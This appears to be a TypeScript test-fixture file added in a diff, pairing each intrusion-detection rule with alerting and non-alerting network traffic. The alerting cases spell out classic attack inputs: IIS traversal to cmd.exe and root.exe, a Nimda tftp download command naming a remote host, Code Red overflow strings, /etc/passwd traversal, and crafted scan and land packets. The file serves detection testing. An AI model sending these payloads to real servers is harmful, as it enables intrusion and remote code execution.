@@ -1,0 +1,117 @@
+// For each rule that comes with stray: traffic that gives its alert, and traffic much like it that does not.
+// Apart from the rules because they are text; a test holds the two together.
+// Always holds: every sid of rules/stray.rules is here once.
+
+import { concat, ethernet, filler, ipv4, tcp } from "../frame.js";
+import type { TimedFrame } from "../letter.js";
+import { answer, asked, fragments, get, opening, SERVER, STRANGER, segment, timed } from "./talk.js";
+
+export interface StarterCase {
+  readonly sid: number;
+  readonly name: string;
+  readonly hit: readonly TimedFrame[];
+  readonly miss: readonly TimedFrame[];
+}
+
+const CODE_RED = (letter: string): string =>
+  `/default.ida?${letter.repeat(224)}%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801=a`;
+const request = "GET /index.html HTTP/1.0\r\nHost: www\r\nAccept: */*\r\n\r\n";
+
+/** Data of a conversation that nobody saw open; `times` sent, each the same. */
+function stray(times: number, flags: string): Uint8Array[] {
+  return Array.from({ length: times }, () => segment("GET /c/winnt HTTP/1.0\r\n\r\n", { flags }));
+}
+
+/** The same place of a stream with other bytes. */
+function overlapped(second: string): Uint8Array[] {
+  return [...opening(), segment("GET /first-version HTTP/1.0\r\n"), segment(second)];
+}
+
+/** A fragment of the same datagram and place, with other bytes. */
+function crossed(other: number): Uint8Array[] {
+  const [first, ...rest] = fragments(filler(200));
+  const [, again] = fragments(concat(filler(56), filler(144, other)));
+  return [rest[0]!, again!, first!, ...rest.slice(1)];
+}
+
+const syns = (count: number): Uint8Array[] =>
+  Array.from({ length: count }, (_, i) => segment("", { flags: "S", ack: 0, dport: 1 + i, sport: 50_000 }));
+
+function land(src: string): Uint8Array {
+  return ethernet({}, ipv4({ src, dst: SERVER }, tcp({ sport: 139, dport: 139, flags: "S" })));
+}
+
+function one(
+  sid: number,
+  name: string,
+  hit: readonly Uint8Array[],
+  miss: readonly Uint8Array[],
+  stepMs = 1,
+): StarterCase {
+  return { sid, name, hit: timed(hit, stepMs), miss: timed(miss, stepMs) };
+}
+
+export const STARTER_CASES: readonly StarterCase[] = [
+  one(
+    9000001,
+    "iis-c1-1c",
+    get("/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir"),
+    get("/scripts/c1-1c/..%2f"),
+  ),
+  one(9000002, "iis-c0-af", get("/scripts/..%c0%af../winnt/x"), get("/caf%c3%a9/%c0-af")),
+  one(9000003, "iis-c0-2f", get("/scripts/..%c0%2f../winnt/x"), get("/scripts/..%2f../x")),
+  one(9000004, "iis-c1-9c", get("/msadc/..%c1%9c../x"), get("/c1%9c")),
+  one(9000005, "iis-255c", get("/scripts/..%255c../winnt/x"), get("/search?discount=..%25&off")),
+  one(9000006, "iis-35-63", get("/scripts/..%%35%63../winnt/x"), get("/list?a=..%%36")),
+  one(9000011, "cmd-exe", get("/c/winnt/system32/cmd.exe?/c+dir"), get("/docs/winnt/cmd.html")),
+  one(9000012, "root-exe", get("/scripts/root.exe?/c+dir"), get("/downloads/root.exe.txt")),
+  one(
+    9000013,
+    "nimda-header",
+    asked("GET / HTTP/1.0\r\nHost: www\r\nConnnection: close\r\n\r\n"),
+    asked("GET / HTTP/1.0\r\nHost: www\r\nConnection: close\r\n\r\n"),
+  ),
+  one(
+    9000014,
+    "nimda-tftp",
+    get("/scripts/root.exe?/c+tftp%20-i%20198.51.100.7%20GET%20Admin.dll%20c:\\Admin.dll"),
+    get("/help?topic=tftp%20-i%20host%20PUT%20file"),
+  ),
+  one(9000021, "code-red", get(CODE_RED("N")), get("/default.ida?NNNNNNNN")),
+  one(9000022, "code-red-2", get(CODE_RED("X")), get("/default.ida?q=XXXXXXXX%u9090")),
+  one(
+    9000023,
+    "code-red-2-body",
+    asked(`POST /x HTTP/1.0\r\n\r\n${"x".repeat(90)}CodeRedII`),
+    asked("GET /news/code-red-ii HTTP/1.0\r\n\r\n"),
+  ),
+  one(9000031, "climbing-path", get("/a/%2e%2e/%2e%2e/etc/passwd"), get("/a/b/../c.html")),
+  one(9000032, "overlong-path", get("/a%c0%ae%c0%ae/b"), get("/caf%c3%a9")),
+  one(9000033, "path-encoded-twice", get("/a%252e%252e/b"), get("/go?url=http%253A%252F%252Fwww")),
+  one(9000101, "fin-with-data", stray(1, "FPA"), [...opening(), segment(request, { flags: "FPA" })]),
+  one(9000102, "unanswered", stray(2, "PA"), [...opening(), segment(request), segment(request)]),
+  one(
+    9000103,
+    "leaky-filter",
+    stray(2, "FPA"),
+    [...stray(2, "PA"), answer("HTTP/1.0 200 OK\r\n\r\n")].toReversed(),
+  ),
+  one(
+    9000104,
+    "overlap-conflict",
+    overlapped("GET /other-version HTTP/1.0\r\n"),
+    overlapped("GET /first-version HTTP/1.0\r\n"),
+  ),
+  one(9000105, "fragment-overlap", crossed(99), crossed(56)),
+  one(9000201, "null-scan", [segment("", { flags: "" })], [...opening(), segment("", { flags: "" })]),
+  one(
+    9000202,
+    "fin-scan",
+    [segment("", { flags: "F" })],
+    [...opening(), segment("", { flags: "FA" }), segment("", { flags: "F" })],
+  ),
+  one(9000203, "xmas-scan", [segment("", { flags: "FPU" })], [...opening(), segment("", { flags: "FPUA" })]),
+  one(9000204, "syn-scan", syns(130), syns(90), 10),
+  one(9000205, "land", [land(SERVER)], [land(STRANGER)]),
+  one(9000206, "syn-fin", [segment("", { flags: "SF" })], [segment("", { flags: "S" })]),
+];
